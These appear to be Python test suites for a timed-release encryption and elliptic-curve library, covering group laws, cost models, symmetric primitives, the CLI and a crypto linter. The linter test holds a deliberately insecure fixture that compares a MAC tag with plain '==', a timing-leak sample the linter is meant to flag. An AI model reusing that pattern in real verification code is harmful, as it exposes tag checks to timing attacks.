from repro.errors import EncodingError, NotOnCurveError, ParameterError
from repro.ec.curve import EllipticCurve
from repro.math.field import PrimeField

# A small curve with known order for exhaustive checks:
# y^2 = x^3 + 2x + 3 over F_97.
P = 97
F = PrimeField(P)
CURVE = EllipticCurve(F, F(2), F(3))


def curve_order():
    count = 1  # infinity
    for x in range(P):
        rhs = (x**3 + 2 * x + 3) % P
        if rhs == 0:
            count += 1
        elif pow(rhs, (P - 1) // 2, P) == 1:
            count += 2
    return count


ORDER = curve_order()


def all_points():
    points = [CURVE.infinity()]
    for x in range(P):
        fx = F(x)
        rhs = fx.square() * fx + CURVE.a * fx + CURVE.b
        if rhs.is_zero():
            points.append(CURVE.point(fx, F(0)))
        elif rhs.is_square():
            y = rhs.sqrt()
            points.append(CURVE.point(fx, y))
            points.append(CURVE.point(fx, -y))
    return points


class TestConstruction:
    def test_singular_curve_raises(self):
        with pytest.raises(ParameterError):
            EllipticCurve(F, F(0), F(0))

    def test_point_validation(self):
        with pytest.raises(NotOnCurveError):
            CURVE.point(F(1), F(1))

    def test_contains(self):
        point = CURVE.random_point(random.Random(0))
        assert CURVE.contains(point.x, point.y)

    def test_point_from_x(self):
        point = CURVE.random_point(random.Random(1))
        lifted = CURVE.point_from_x(point.x, point.y.value % 2)
        assert lifted == point

    def test_point_from_x_non_residue_raises(self):
        for x in range(P):
            fx = F(x)
            rhs = fx.square() * fx + CURVE.a * fx + CURVE.b
            if not rhs.is_zero() and not rhs.is_square():
                with pytest.raises(NotOnCurveError):
                    CURVE.point_from_x(fx)
                return
        pytest.skip("no non-residue x on this curve")


class TestGroupLaw:
    def test_identity(self):
        o = CURVE.infinity()
        p = CURVE.random_point(random.Random(2))
        assert p + o == p
        assert o + p == p
        assert o + o == o

    def test_inverse(self):
        p = CURVE.random_point(random.Random(3))
        assert (p + (-p)).is_infinity
        assert p - p == CURVE.infinity()

    def test_commutative_exhaustive_sample(self):
        pts = all_points()[:20]
        for a in pts:
            for b in pts:
                assert a + b == b + a

    def test_associative_sample(self):
        pts = all_points()
        rng = random.Random(4)
        for _ in range(50):
            a, b, c = (rng.choice(pts) for _ in range(3))
            assert (a + b) + c == a + (b + c)

    def test_order_annihilates(self):
        for point in all_points()[:25]:
            assert (point * ORDER).is_infinity

    def test_double_matches_add(self):
        p = CURVE.random_point(random.Random(5))
        assert p.double() == p + p

    def test_two_torsion_doubling(self):
        # A point with y == 0 doubles to infinity.
        for x in range(P):
            fx = F(x)
            rhs = fx.square() * fx + CURVE.a * fx + CURVE.b
            if rhs.is_zero():
                point = CURVE.point(fx, F(0))
                assert point.double().is_infinity
                return
        pytest.skip("curve has no 2-torsion over Fp")


class TestScalarMult:
    def test_zero_and_one(self):
        p = CURVE.random_point(random.Random(6))
        assert (p * 0).is_infinity
        assert p * 1 == p

    def test_negative_scalar(self):
        p = CURVE.random_point(random.Random(7))
        assert p * -3 == -(p * 3)

    def test_matches_repeated_addition(self):
        p = CURVE.random_point(random.Random(8))
        acc = CURVE.infinity()
        for k in range(25):
            assert p * k == acc
            acc = acc + p

    def test_jacobian_matches_affine(self):
        rng = random.Random(9)
        for _ in range(10):
            p = CURVE.random_point(rng)
            k = rng.randrange(1, 10_000)
            assert p * k == p.affine_scalar_mult(k)

    def test_distributivity(self):
        rng = random.Random(10)
        p = CURVE.random_point(rng)
        a, b = rng.randrange(500), rng.randrange(500)
        assert p * a + p * b == p * (a + b)

    def test_multi_scalar_mult(self):
        rng = random.Random(11)
        pairs = [(rng.randrange(1, 200), CURVE.random_point(rng)) for _ in range(4)]
        expected = CURVE.infinity()
        for k, point in pairs:
            expected = expected + point * k
        assert CURVE.multi_scalar_mult(pairs) == expected

    def test_multi_scalar_mult_empty(self):
        assert CURVE.multi_scalar_mult([]).is_infinity

    def test_multi_scalar_mult_negative(self):
        rng = random.Random(12)
        p = CURVE.random_point(rng)
        assert CURVE.multi_scalar_mult([(-3, p)]) == p * -3


class TestSerialization:
    def test_roundtrip(self):
        p = CURVE.random_point(random.Random(13))
        assert CURVE.point_from_bytes(p.to_bytes()) == p

    def test_infinity_roundtrip(self):
        assert CURVE.point_from_bytes(CURVE.infinity().to_bytes()).is_infinity

    def test_bad_prefix_raises(self):
        with pytest.raises(EncodingError):
            CURVE.point_from_bytes(b"\x05" + b"\x00" * 2)

    def test_not_on_curve_rejected(self):
        bad = b"\x04" + F(1).to_bytes() + F(1).to_bytes()
        with pytest.raises(NotOnCurveError):
            CURVE.point_from_bytes(bad)

    def test_hashable(self):
        rng = random.Random(14)
        p = CURVE.random_point(rng)
        while p.y.is_zero():  # avoid 2-torsion, where p == -p
            p = CURVE.random_point(rng)
        assert len({p, p, -p}) == 2
