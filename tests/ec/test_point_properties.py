"""Property-based tests: the group law on a pairing-sized curve.

Uses the real toy64 subgroup so properties are exercised on the exact
object the schemes use, including the Jacobian scalar-mult path.
"""

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.errors import GroupMismatchError
from repro.pairing.api import PairingGroup

GROUP = PairingGroup("toy64", family="A")
Q = GROUP.q

scalars = st.integers(1, Q - 1)

common = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@common
@given(scalars, scalars)
def test_scalar_mult_additive_homomorphism(a, b):
    g = GROUP.generator
    assert g * a + g * b == g * ((a + b) % Q)


@common
@given(scalars, scalars)
def test_scalar_mult_composition(a, b):
    g = GROUP.generator
    assert (g * a) * b == g * (a * b % Q)


@common
@given(scalars)
def test_order_annihilates(a):
    assert (GROUP.generator * a * Q).is_infinity


@common
@given(scalars)
def test_negation(a):
    g = GROUP.generator
    assert g * (Q - a) == -(g * a)


@common
@given(scalars)
def test_jacobian_matches_affine(a):
    g = GROUP.generator
    assert g * a == g.affine_scalar_mult(a)


@common
@given(scalars)
def test_serialization_roundtrip(a):
    point = GROUP.generator * a
    assert GROUP.point_from_bytes(GROUP.point_to_bytes(point)) == point


def test_cross_family_points_do_not_mix():
    other = PairingGroup("toy64", family="B")
    with pytest.raises(GroupMismatchError):
        GROUP.generator + other.generator
