"""Tests for the ASCII table formatter."""

from repro.analysis.table import format_table


class TestFormatTable:
    def test_basic_shape(self):
        out = format_table(("a", "b"), [(1, 2), (3, 4)])
        lines = out.splitlines()
        assert len(lines) == 4  # header, rule, two rows
        assert "a" in lines[0] and "b" in lines[0]

    def test_title(self):
        out = format_table(("x",), [(1,)], title="My Table")
        assert out.splitlines()[0] == "My Table"

    def test_float_formatting(self):
        out = format_table(("v",), [(0.12345,), (12.3,), (12345.6,), (0.0,)])
        assert "0.1234" in out or "0.1235" in out
        assert "12.30" in out
        assert "12,346" in out

    def test_empty_rows(self):
        out = format_table(("col",), [])
        assert "col" in out

    def test_alignment(self):
        out = format_table(("name", "val"), [("a", 1), ("long-name", 22)])
        lines = out.splitlines()
        assert len(lines[2]) == len(lines[3])
