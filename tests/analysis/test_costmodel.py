"""The symbolic cost model must match the live operation counters.

These tests run each scheme once with the group's counters on and
compare against the declared :class:`OpBudget` — a regression net for
any change that silently alters a scheme's operation count.
"""

import pytest

from repro.analysis.costmodel import (
    HYBRID_COST,
    IDTRE_COST,
    OpBudget,
    PRECOMP_UPDATE_VERIFY_COST,
    RECEIVER_KEY_CHECK_COST,
    TRE_COST,
    TRE_GT_ENCRYPT_COST,
    TRE_PRECOMP_ENCRYPT_COST,
    UPDATE_VERIFY_COST,
    broadcast_encrypt_cost,
    cost_table,
    multiserver_cost,
    resilient_cost,
    tre_batch_decrypt_cost,
)
from repro.core.idtre import IdentityTimedReleaseScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.timeserver import PassiveTimeServer
from repro.core.tre import TimedReleaseScheme
from repro.pairing.api import PairingGroup

LABEL = b"costmodel-T"


def _measure(group, fn):
    with group.counters.measure() as delta:
        fn()
    return delta


def _assert_budget(measured: dict, budget) -> None:
    expected = budget.as_dict()
    relevant = {
        k: v for k, v in measured.items()
        if k in (
            "pairing", "scalar_mult", "hash_to_group", "gt_exp", "point_add",
            "miller_loop", "final_exp", "multi_pair",
        )
    }
    # point_add counts are advisory; compare the expensive ops exactly.
    relevant.pop("point_add", None)
    expected.pop("point_add", None)
    assert relevant == expected


class TestFixedBudgets:
    def test_tre(self, group, server, user, rng):
        scheme = TimedReleaseScheme(group)
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, user.public, server.public_key, LABEL, rng,
            verify_receiver_key=False,
        ))
        _assert_budget(measured, TRE_COST.encrypt)
        ct = scheme.encrypt(
            b"m" * 32, user.public, server.public_key, LABEL, rng,
            verify_receiver_key=False,
        )
        update = server.publish_update(LABEL)
        measured = _measure(group, lambda: scheme.decrypt(ct, user, update))
        _assert_budget(measured, TRE_COST.decrypt)

    def test_idtre(self, group, rng):
        master = ServerKeyPair.generate(group, rng)
        scheme = IdentityTimedReleaseScheme(group)
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, b"alice", master.public, LABEL, rng
        ))
        _assert_budget(measured, IDTRE_COST.encrypt)
        key = scheme.extract_user_key(master, b"alice")
        ct = scheme.encrypt(b"m" * 32, b"alice", master.public, LABEL, rng)
        server = PassiveTimeServer(group, keypair=master)
        update = server.publish_update(LABEL)
        measured = _measure(group, lambda: scheme.decrypt(ct, key, update))
        _assert_budget(measured, IDTRE_COST.decrypt)

    def test_hybrid(self, group, server, rng):
        from repro.baselines.hybrid_pke_ibe import HybridPkeIbeTimedRelease

        scheme = HybridPkeIbeTimedRelease(group)
        receiver = scheme.generate_receiver_keypair(rng)
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, receiver.public, server.public_key, LABEL, rng
        ))
        _assert_budget(measured, HYBRID_COST.encrypt)
        ct = scheme.encrypt(
            b"m" * 32, receiver.public, server.public_key, LABEL, rng
        )
        update = server.publish_update(LABEL)
        measured = _measure(
            group, lambda: scheme.decrypt(ct, receiver.private, update)
        )
        _assert_budget(measured, HYBRID_COST.decrypt)

    def test_update_verify(self, group, server):
        update = server.publish_update(b"costmodel-verify")
        measured = _measure(
            group, lambda: update.verify(group, server.public_key)
        )
        _assert_budget(measured, UPDATE_VERIFY_COST)

    def test_receiver_key_check(self, group, server, user):
        measured = _measure(
            group,
            lambda: user.public.verify_well_formed(group, server.public_key),
        )
        _assert_budget(measured, RECEIVER_KEY_CHECK_COST)


class TestParametricBudgets:
    @pytest.mark.parametrize("servers", [1, 3])
    def test_multiserver(self, group, rng, servers):
        from repro.core.multiserver import (
            MultiServerTimedReleaseScheme,
            MultiServerUserKeyPair,
        )

        nodes = [PassiveTimeServer(group, rng=rng) for _ in range(servers)]
        scheme = MultiServerTimedReleaseScheme(
            group, [n.public_key for n in nodes]
        )
        user = MultiServerUserKeyPair.generate(
            group, [n.public_key for n in nodes], rng
        )
        budget = multiserver_cost(servers)
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, user.public, LABEL, rng, verify_receiver_key=False
        ))
        _assert_budget(measured, budget.encrypt)
        ct = scheme.encrypt(
            b"m" * 32, user.public, LABEL, rng, verify_receiver_key=False
        )
        updates = [n.publish_update(LABEL) for n in nodes]
        measured = _measure(group, lambda: scheme.decrypt(
            ct, user.private, updates, verify_updates=False
        ))
        _assert_budget(measured, budget.decrypt)

    @pytest.mark.parametrize("depth", [4, 6])
    def test_resilient(self, group, rng, depth):
        from repro.core.resilient import ResilientTRE, ResilientTimeServer

        server = ResilientTimeServer(group, depth, rng)
        scheme = ResilientTRE(group, server.tree, server.public_key)
        user = scheme.generate_user_keypair(server.public_key, rng)
        budget = resilient_cost(depth)
        epoch = (1 << depth) - 2
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, user.public, epoch, rng, verify_receiver_key=False
        ))
        _assert_budget(measured, budget.encrypt)
        ct = scheme.encrypt(
            b"m" * 32, user.public, epoch, rng, verify_receiver_key=False
        )
        update = server.publish_update(epoch)
        leaf = scheme.derive_leaf_key(
            scheme.find_covering_key(update, epoch), epoch, rng
        )
        measured = _measure(group, lambda: scheme.decrypt(ct, user, leaf))
        _assert_budget(measured, budget.decrypt)


def _assert_budget_with_advisory(measured: dict, budget) -> None:
    """Exact comparison including the fast-path sub-counters."""
    names = (
        "pairing", "scalar_mult", "hash_to_group", "gt_exp",
        "fixed_base_mult", "pairing_precomp", "gt_fixed_base",
        "miller_loop", "final_exp", "multi_pair",
    )
    relevant = {k: v for k, v in measured.items() if k in names}
    expected = budget.as_dict()
    expected.pop("point_add", None)
    assert relevant == expected


class TestPrecomputedBudgets:
    """Fast-path budgets, measured on fresh groups to control cache state."""

    @pytest.fixture()
    def fresh(self, rng):
        group = PairingGroup("toy64", family="A")
        server = PassiveTimeServer(group, rng=rng)
        user = UserKeyPair.generate(group, server.public_key, rng)
        return group, server, user

    def test_precomp_encrypt(self, fresh, rng):
        group, server, user = fresh
        scheme = TimedReleaseScheme(group)
        scheme.precompute_sender(user.public, server.public_key)
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, user.public, server.public_key, LABEL, rng,
            verify_receiver_key=False,
        ))
        _assert_budget_with_advisory(measured, TRE_PRECOMP_ENCRYPT_COST)
        # Primary counters unchanged vs. the cold budget.
        _assert_budget(measured, TRE_COST.encrypt)

    def test_gt_fast_path_encrypt(self, fresh, rng):
        """The GT fast path *eliminates* the pairing and hash-to-curve —
        the one precomputed variant whose primary counts shrink."""
        group, server, user = fresh
        scheme = TimedReleaseScheme(group)
        scheme.precompute_sender(
            user.public, server.public_key, time_labels=[LABEL]
        )
        measured = _measure(group, lambda: scheme.encrypt(
            b"m" * 32, user.public, server.public_key, LABEL, rng,
            verify_receiver_key=False,
        ))
        _assert_budget_with_advisory(measured, TRE_GT_ENCRYPT_COST)
        assert "pairing" not in measured
        assert "hash_to_group" not in measured

    def test_broadcast_encrypt_budget(self, fresh, rng):
        from repro.core.broadcast import BroadcastTimedReleaseScheme

        group, server, user = fresh
        others = [
            UserKeyPair.generate(group, server.public_key, rng)
            for _ in range(2)
        ]
        receivers = [user.public] + [u.public for u in others]
        scheme = BroadcastTimedReleaseScheme(group)
        with group.counters.measure() as cold:
            scheme.encrypt_broadcast(
                b"m" * 32, receivers, server.public_key, LABEL, rng,
                verify_receiver_keys=False,
            )
        _assert_budget_with_advisory(
            cold, broadcast_encrypt_cost(len(receivers), warm=False)
        )
        scheme.precompute_sender(
            receivers, server.public_key, time_labels=[LABEL]
        )
        with group.counters.measure() as warm:
            scheme.encrypt_broadcast(
                b"m" * 32, receivers, server.public_key, LABEL, rng,
                verify_receiver_keys=False,
            )
        _assert_budget_with_advisory(
            warm, broadcast_encrypt_cost(len(receivers), warm=True)
        )

    def test_precomp_update_verify(self, fresh):
        group, server, user = fresh
        server.public_key.precompute(group)
        update = server.publish_update(LABEL)
        measured = _measure(
            group, lambda: update.verify(group, server.public_key)
        )
        _assert_budget_with_advisory(measured, PRECOMP_UPDATE_VERIFY_COST)

    @pytest.mark.parametrize("n", [1, 4])
    def test_batch_decrypt(self, fresh, rng, n):
        group, server, user = fresh
        scheme = TimedReleaseScheme(group)
        update = server.publish_update(LABEL)
        cts = [
            scheme.encrypt(
                b"m" * 32, user.public, server.public_key, LABEL, rng,
                verify_receiver_key=False,
            )
            for _ in range(n)
        ]
        measured = _measure(
            group, lambda: scheme.decrypt_batch(cts, user, update)
        )
        _assert_budget_with_advisory(measured, tre_batch_decrypt_cost(n))

    def test_dominant_cost_discounts_fast_paths(self):
        assert (
            TRE_PRECOMP_ENCRYPT_COST.dominant_cost()
            < TRE_COST.encrypt.dominant_cost()
        )
        # The GT fast path is the deepest collapse: cheaper than even
        # the fixed-base-only precomputed encrypt, and an order of
        # magnitude below the cold path.
        assert (
            TRE_GT_ENCRYPT_COST.dominant_cost()
            < TRE_PRECOMP_ENCRYPT_COST.dominant_cost()
        )
        assert (
            TRE_GT_ENCRYPT_COST.dominant_cost()
            < TRE_COST.encrypt.dominant_cost() / 10
        )
        # Warm broadcast beats N independent warm encrypts (shared U)
        # and is radically below the cold broadcast.
        n = 8
        assert (
            broadcast_encrypt_cost(n, warm=True).dominant_cost()
            < n * TRE_GT_ENCRYPT_COST.dominant_cost()
        )
        assert (
            broadcast_encrypt_cost(n, warm=True).dominant_cost()
            < broadcast_encrypt_cost(n, warm=False).dominant_cost() / 10
        )
        assert (
            PRECOMP_UPDATE_VERIFY_COST.dominant_cost()
            < UPDATE_VERIFY_COST.dominant_cost()
        )
        assert (
            tre_batch_decrypt_cost(8).dominant_cost()
            < 8 * TRE_COST.decrypt.dominant_cost()
        )

    def test_dominant_cost_credits_shared_final_exps(self):
        from repro.analysis.costmodel import multiserver_cost, resilient_cost

        fused = multiserver_cost(4).decrypt
        unfused = OpBudget(pairings=4, gt_exps=1)
        assert fused.dominant_cost() < unfused.dominant_cost()
        # A 2-pairing ratio check beats two standalone pairings.
        two_separate = OpBudget(pairings=2)
        assert (
            RECEIVER_KEY_CHECK_COST.dominant_cost()
            < two_separate.dominant_cost()
        )
        assert (
            resilient_cost(8).decrypt.dominant_cost()
            < OpBudget(pairings=8, gt_exps=1).dominant_cost()
        )


class TestSpeedupFormulas:
    def test_multi_pairing_saving_grows_linearly(self):
        from repro.analysis.costmodel import (
            multi_pairing_saving,
            multi_pairing_speedup,
        )

        assert multi_pairing_saving(1) == 0.0
        assert multi_pairing_saving(3) == 2 * multi_pairing_saving(2)
        assert multi_pairing_speedup(1) == 1.0
        # Speedup grows with k but is bounded by the Miller-loop share.
        s2, s8 = multi_pairing_speedup(2), multi_pairing_speedup(8)
        assert 1.0 < s2 < s8
        assert s8 < 10.0 / (10.0 - 2.0) * 1.001  # asymptote

    def test_parallel_speedup_model(self):
        from repro.analysis.costmodel import parallel_speedup

        assert parallel_speedup(1, 100) == 1.0
        assert parallel_speedup(8, 1) == 1.0
        s4 = parallel_speedup(4, 100)
        s8 = parallel_speedup(8, 100)
        assert 1.0 < s4 < 4.0  # sub-linear: Amdahl serial fraction
        assert s4 < s8 < 8.0
        # More workers than items: the surplus idles.
        assert parallel_speedup(64, 4) == parallel_speedup(4, 4)


class TestRendering:
    def test_cost_table_renders(self):
        table = cost_table()
        assert "TRE" in table
        assert "hybrid" in table
