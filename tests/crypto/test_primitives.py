"""Tests for the symmetric building blocks (KDF, stream, MAC, RNG)."""

import pytest
from hypothesis import given, strategies as st

from repro.crypto.kdf import derive_key, derive_subkeys
from repro.crypto.mac import MAC_BYTES, compute_mac, verify_mac
from repro.crypto.rng import seeded_rng, system_rng
from repro.crypto.stream import keystream, stream_xor
from repro.encoding import xor_bytes
from repro.errors import EncodingError


class TestKdf:
    def test_length(self):
        for n in (0, 1, 31, 32, 33, 100):
            assert len(derive_key(b"secret", n)) == n

    def test_deterministic(self):
        assert derive_key(b"s", 32) == derive_key(b"s", 32)

    def test_label_separation(self):
        assert derive_key(b"s", 32, "a") != derive_key(b"s", 32, "b")

    def test_secret_separation(self):
        assert derive_key(b"s1", 32) != derive_key(b"s2", 32)

    def test_prefix_consistency(self):
        assert derive_key(b"s", 64)[:32] == derive_key(b"s", 32)

    def test_negative_length_raises(self):
        with pytest.raises(ValueError):
            derive_key(b"s", -1)

    def test_subkeys_independent(self):
        k1, k2 = derive_subkeys(b"s", "enc", "mac")
        assert k1 != k2
        assert len(k1) == len(k2) == 32


class TestStream:
    def test_xor_involution(self):
        data = b"attack at dawn" * 10
        ct = stream_xor(b"key", b"nonce", data)
        assert ct != data
        assert stream_xor(b"key", b"nonce", ct) == data

    def test_nonce_matters(self):
        assert stream_xor(b"k", b"n1", b"data!") != stream_xor(b"k", b"n2", b"data!")

    def test_keystream_length(self):
        for n in (0, 1, 32, 33, 97):
            assert len(keystream(b"k", b"n", n)) == n

    def test_keystream_prefix(self):
        assert keystream(b"k", b"n", 100)[:10] == keystream(b"k", b"n", 10)

    def test_key_nonce_framing(self):
        # (k="ab", n="c") must differ from (k="a", n="bc").
        assert keystream(b"ab", b"c", 32) != keystream(b"a", b"bc", 32)

    @given(st.binary(max_size=200))
    def test_roundtrip_property(self, data):
        assert stream_xor(b"k", b"n", stream_xor(b"k", b"n", data)) == data


class TestMac:
    def test_verify_accepts(self):
        tag = compute_mac(b"key", b"part1", b"part2")
        assert len(tag) == MAC_BYTES
        assert verify_mac(b"key", tag, b"part1", b"part2")

    def test_verify_rejects_tamper(self):
        tag = compute_mac(b"key", b"msg")
        assert not verify_mac(b"key", tag, b"msG")
        assert not verify_mac(b"kEy", tag, b"msg")
        assert not verify_mac(b"key", xor_bytes(tag, b"\x01" + b"\x00" * 31), b"msg")

    def test_framing_unambiguous(self):
        assert compute_mac(b"k", b"ab", b"c") != compute_mac(b"k", b"a", b"bc")


class TestXorBytes:
    def test_length_mismatch_raises(self):
        with pytest.raises(EncodingError):
            xor_bytes(b"ab", b"a")

    @given(st.binary(max_size=64), st.binary(max_size=64))
    def test_self_inverse(self, a, b):
        n = min(len(a), len(b))
        a, b = a[:n], b[:n]
        assert xor_bytes(xor_bytes(a, b), b) == a


class TestRng:
    def test_seeded_deterministic(self):
        assert seeded_rng(5).random() == seeded_rng(5).random()

    def test_system_rng_works(self):
        r = system_rng()
        assert 0 <= r.randrange(100) < 100
