"""Tests for encrypt-then-MAC authenticated encryption."""

import pytest
from hypothesis import given, strategies as st

from repro.crypto.authenc import aead_decrypt, aead_encrypt
from repro.errors import DecryptionError


class TestRoundtrip:
    def test_basic(self):
        sealed = aead_encrypt(b"secret", b"n", b"hello world")
        assert aead_decrypt(b"secret", b"n", sealed) == b"hello world"

    def test_empty_plaintext(self):
        sealed = aead_encrypt(b"s", b"n", b"")
        assert aead_decrypt(b"s", b"n", sealed) == b""

    def test_with_associated_data(self):
        sealed = aead_encrypt(b"s", b"n", b"msg", associated_data=b"hdr")
        assert aead_decrypt(b"s", b"n", sealed, associated_data=b"hdr") == b"msg"

    @given(st.binary(max_size=300), st.binary(max_size=16))
    def test_roundtrip_property(self, plaintext, ad):
        sealed = aead_encrypt(b"key", b"nonce", plaintext, associated_data=ad)
        assert aead_decrypt(b"key", b"nonce", sealed, associated_data=ad) == plaintext


class TestRejection:
    def test_wrong_key(self):
        sealed = aead_encrypt(b"k1", b"n", b"msg")
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k2", b"n", sealed)

    def test_wrong_nonce(self):
        sealed = aead_encrypt(b"k", b"n1", b"msg")
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k", b"n2", sealed)

    def test_wrong_associated_data(self):
        sealed = aead_encrypt(b"k", b"n", b"msg", associated_data=b"a")
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k", b"n", sealed, associated_data=b"b")

    def test_ciphertext_tamper(self):
        sealed = bytearray(aead_encrypt(b"k", b"n", b"msg"))
        sealed[0] ^= 1
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k", b"n", bytes(sealed))

    def test_tag_tamper(self):
        sealed = bytearray(aead_encrypt(b"k", b"n", b"msg"))
        sealed[-1] ^= 1
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k", b"n", bytes(sealed))

    def test_truncated_blob(self):
        with pytest.raises(DecryptionError):
            aead_decrypt(b"k", b"n", b"short")

    def test_ciphertext_differs_from_plaintext(self):
        sealed = aead_encrypt(b"k", b"n", b"a" * 64)
        assert b"a" * 64 not in sealed
