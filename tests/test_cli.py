"""Tests for the command-line interface."""

import pytest

from repro.cli import main


def _run(argv):
    return main(argv)


@pytest.fixture()
def keyring(tmp_path):
    """Server + user key files on toy64 for fast CLI flows."""
    server_key = tmp_path / "server.key"
    server_pub = tmp_path / "server.pub"
    user_key = tmp_path / "user.key"
    user_pub = tmp_path / "user.pub"
    assert _run([
        "server-keygen", "--params", "toy64",
        "--key", str(server_key), "--pub", str(server_pub),
    ]) == 0
    assert _run([
        "user-keygen", "--server-pub", str(server_pub),
        "--key", str(user_key), "--pub", str(user_pub),
    ]) == 0
    return {
        "server_key": server_key,
        "server_pub": server_pub,
        "user_key": user_key,
        "user_pub": user_pub,
        "tmp": tmp_path,
    }


class TestKeygen:
    def test_files_written(self, keyring):
        assert keyring["server_key"].read_text().startswith("repro-tre v1 server-key")
        assert keyring["server_pub"].read_text().startswith("repro-tre v1 server-public")
        assert keyring["user_key"].read_text().startswith("repro-tre v1 user-key")

    def test_private_key_not_in_public_file(self, keyring):
        private_line = [
            line for line in keyring["server_key"].read_text().splitlines()
            if line.startswith("private=")
        ][0]
        assert private_line.split("=", 1)[1] not in keyring["server_pub"].read_text()


class TestEncryptDecrypt:
    def test_full_flow(self, keyring):
        tmp = keyring["tmp"]
        (tmp / "msg.txt").write_bytes(b"CLI round trip")
        assert _run([
            "encrypt", "--server-pub", str(keyring["server_pub"]),
            "--receiver-pub", str(keyring["user_pub"]),
            "--time", "2031-01-01T00:00Z",
            "--infile", str(tmp / "msg.txt"),
            "--outfile", str(tmp / "msg.tre"),
        ]) == 0
        assert _run([
            "issue-update", "--server-key", str(keyring["server_key"]),
            "--time", "2031-01-01T00:00Z",
            "--outfile", str(tmp / "update.bin"),
        ]) == 0
        assert _run([
            "verify-update", "--server-pub", str(keyring["server_pub"]),
            "--infile", str(tmp / "update.bin"),
        ]) == 0
        assert _run([
            "decrypt", "--user-key", str(keyring["user_key"]),
            "--server-pub", str(keyring["server_pub"]),
            "--update", str(tmp / "update.bin"),
            "--infile", str(tmp / "msg.tre"),
            "--outfile", str(tmp / "msg.out"),
        ]) == 0
        assert (tmp / "msg.out").read_bytes() == b"CLI round trip"

    def test_wrong_update_fails_cleanly(self, keyring):
        tmp = keyring["tmp"]
        (tmp / "msg.txt").write_bytes(b"secret")
        _run([
            "encrypt", "--server-pub", str(keyring["server_pub"]),
            "--receiver-pub", str(keyring["user_pub"]),
            "--time", "T-right",
            "--infile", str(tmp / "msg.txt"),
            "--outfile", str(tmp / "msg.tre"),
        ])
        _run([
            "issue-update", "--server-key", str(keyring["server_key"]),
            "--time", "T-wrong",
            "--outfile", str(tmp / "update.bin"),
        ])
        code = _run([
            "decrypt", "--user-key", str(keyring["user_key"]),
            "--server-pub", str(keyring["server_pub"]),
            "--update", str(tmp / "update.bin"),
            "--infile", str(tmp / "msg.tre"),
            "--outfile", str(tmp / "msg.out"),
        ])
        assert code == 2  # clean error exit, no traceback
        assert not (tmp / "msg.out").exists()

    def test_tampered_update_fails_verification(self, keyring):
        tmp = keyring["tmp"]
        _run([
            "issue-update", "--server-key", str(keyring["server_key"]),
            "--time", "T", "--outfile", str(tmp / "update.bin"),
        ])
        blob = bytearray((tmp / "update.bin").read_bytes())
        blob[-1] ^= 1
        (tmp / "tampered.bin").write_bytes(bytes(blob))
        code = _run([
            "verify-update", "--server-pub", str(keyring["server_pub"]),
            "--infile", str(tmp / "tampered.bin"),
        ])
        assert code != 0


class TestMisc:
    def test_info(self, capsys):
        assert _run(["info"]) == 0
        out = capsys.readouterr().out
        assert "ss512" in out and "toy64" in out

    def test_wrong_file_kind_rejected(self, keyring):
        code = _run([
            "user-keygen", "--server-pub", str(keyring["user_pub"]),
            "--key", str(keyring["tmp"] / "x.key"),
            "--pub", str(keyring["tmp"] / "x.pub"),
        ])
        assert code == 2

    def test_missing_file_clean_error(self, keyring):
        code = _run([
            "verify-update", "--server-pub", str(keyring["server_pub"]),
            "--infile", str(keyring["tmp"] / "nope.bin"),
        ])
        assert code == 2

    def test_demo(self):
        assert _run(["demo"]) == 0
