"""CLI exit codes and output formats.

Scoped rules key off the path *relative to the repro package*, so these
tests lay files out under a synthetic ``repro/crypto/`` tree — which
also exercises that baselines written from one checkout location match
findings from another (fingerprints are package-relative).
"""

from __future__ import annotations

import json
from pathlib import Path

from repro.lint.cli import main

DIRTY = "def verify(tag, expected):\n    return tag == expected\n"
CLEAN = (
    "from repro.crypto.ct import bytes_eq\n"
    "\n"
    "def verify(tag, expected):\n"
    "    return bytes_eq(tag, expected)\n"
)


def _module(tmp_path: Path, name: str, source: str) -> str:
    path = tmp_path / "repro" / "crypto" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source)
    return str(path)


def test_dirty_file_exits_one(tmp_path, capsys) -> None:
    status = main([_module(tmp_path, "bad.py", DIRTY), "--no-baseline"])
    assert status == 1
    out = capsys.readouterr().out
    assert "RP102" in out
    assert "FAILED" in out


def test_clean_file_exits_zero(tmp_path, capsys) -> None:
    status = main([_module(tmp_path, "ok.py", CLEAN), "--no-baseline"])
    assert status == 0
    assert "clean" in capsys.readouterr().out


def test_json_format(tmp_path, capsys) -> None:
    target = _module(tmp_path, "bad.py", DIRTY)
    status = main([target, "--no-baseline", "--format", "json"])
    assert status == 1
    payload = json.loads(capsys.readouterr().out)
    assert {finding["rule"] for finding in payload["findings"]} == {"RP102"}
    assert payload["files_checked"] == 1


def test_missing_path_is_usage_error(capsys) -> None:
    assert main(["definitely/not/here.py"]) == 2


def test_malformed_baseline_is_usage_error(tmp_path, capsys) -> None:
    target = _module(tmp_path, "ok.py", CLEAN)
    baseline = tmp_path / "baseline.txt"
    baseline.write_text("RP102 too few fields? no, three\n")
    assert main([target, "--baseline", str(baseline)]) == 2
    assert "malformed baseline line" in capsys.readouterr().err


def test_list_rules(capsys) -> None:
    assert main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rule_id in ("RP101", "RP102", "RP103", "RP104", "RP105"):
        assert rule_id in out


def test_write_baseline_then_clean(tmp_path, capsys) -> None:
    target = _module(tmp_path, "bad.py", DIRTY)
    baseline = tmp_path / "baseline.txt"
    assert main([target, "--write-baseline", "--baseline", str(baseline)]) == 0
    assert "crypto/bad.py" in baseline.read_text()
    assert main([target, "--baseline", str(baseline)]) == 0


def test_stale_baseline_entry_fails(tmp_path, capsys) -> None:
    target = _module(tmp_path, "ok.py", CLEAN)
    baseline = tmp_path / "baseline.txt"
